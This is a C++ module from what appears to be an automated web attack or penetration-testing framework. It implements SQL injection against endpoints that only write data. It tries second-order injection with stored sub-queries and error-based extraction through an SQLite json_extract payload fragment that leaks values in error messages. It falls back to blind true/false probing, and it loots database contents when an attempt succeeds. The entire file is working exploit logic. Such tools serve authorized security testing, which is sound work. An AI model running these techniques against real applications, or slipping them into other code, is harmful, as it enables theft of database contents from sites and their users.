// sql-error: statements that only write. Three ways to see inside all the same: a sub-query that
// is stored and read back, a message that carries a value, and failing or not as one bit.
#include <algorithm>

#include "core/attack/every_agent.h"
#include "core/attack/intrusion.h"
#include "core/attack/session.h"
#include "core/attack/write_entry.h"

namespace parapet::attack {
namespace {

// An SQLite message that names its argument: "JSON path error near '4711'".
constexpr std::string_view kTelling = "json_extract(char(123,125),(";
constexpr std::string_view kTellingEnd = "))";

class SqlError final : public Agent {
    void run(Target& target) override {
        std::string const signup = option_or(target, option::kSignup, "signup");
        for (Endpoint const* endpoint : endpoints_to_try(target)) {
            if (endpoint->parameters.empty() || endpoint->method == "GET") continue;
            WriteEntry entry(target, *endpoint);
            if (try_visible(target, entry)) return;
            bool const ask_first = endpoint->id == signup;
            if (ask_first && !suspicious(entry)) continue;
            if (try_bits(target, *endpoint)) return;
        }
    }

    bool try_visible(Target& target, WriteEntry& entry) {
        all_data_ = true;
        std::vector<std::vector<std::size_t>> data;  // parameters whose text stays what it is
        for (WriteEntry::Frame const& frame : entry.frames()) {
            if (std::find(data.begin(), data.end(), frame.parameters) != data.end()) continue;
            Seen const seen = entry.look(frame, "", "");
            if (seen == Seen::Value) {
                target.note("What a sub-query gives is stored and can be read back.");
                entry.loot(frame, "", "");
                return true;
            }
            if (seen == Seen::Data) {
                data.push_back(frame.parameters);
                continue;
            }
            all_data_ = false;
            if (entry.look(frame, kTelling, kTellingEnd) != Seen::Value) continue;
            target.note("The error message holds a value out of the database.");
            entry.loot(frame, kTelling, kTellingEnd);
            return true;
        }
        return false;
    }

    // At sign-up, where every request costs the app a hash, bits are only asked for after a sign.
    bool suspicious(WriteEntry& entry) const {
        if (all_data_) return false;
        for (WriteEntry::Frame const& frame : entry.frames()) {
            if (entry.fails_on_purpose(frame)) return true;
        }
        return false;
    }

    static bool try_bits(Target& target, Endpoint const& endpoint) {
        for (std::size_t i = 0; i < endpoint.parameters.size(); ++i) {
            DirectEntry entry(target, {&endpoint, i});
            Parameter const& parameter = endpoint.parameters[i];
            std::vector<Frame> const frames = is_number(parameter)
                                                  ? number_error_frames(parameter.sample)
                                                  : text_error_frames(random_word(target, 6));
            if (intrude(entry, {frames, {}})) return true;
        }
        return false;
    }

    bool all_data_ = false;  // every text came back as it was sent
};

}  // namespace

std::unique_ptr<Agent> make_sql_error() { return std::make_unique<SqlError>(); }

}  // namespace parapet::attack
